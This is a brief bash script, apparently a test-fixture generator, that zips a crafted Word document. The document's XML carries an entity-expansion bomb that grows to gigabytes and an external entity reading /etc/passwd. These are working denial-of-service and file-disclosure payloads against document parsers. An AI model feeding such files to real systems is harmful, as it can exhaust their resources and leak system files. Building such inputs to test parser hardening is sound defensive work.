#!/bin/bash
# Entities that would grow to gigabytes, and one that names a file.
dir=$(mktemp -d)
mkdir "$dir/word"
printf '<Types/>' >"$dir/[Content_Types].xml"
{
	printf '<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
	last=a
	for e in b c d e g h i j k l; do printf '<!ENTITY %s "' $e; for ((i = 0; i < 10; i++)); do printf '&%s;' $last; done; printf '">'; last=$e; done
	printf ']><w:document xmlns:w="w"><w:body><w:p><w:r><w:t>&l; &f; text</w:t></w:r></w:p></w:body></w:document>'
} >"$dir/word/document.xml"
(cd "$dir" && zip -q -X -r - '[Content_Types].xml' word)
rm -rf "$dir"
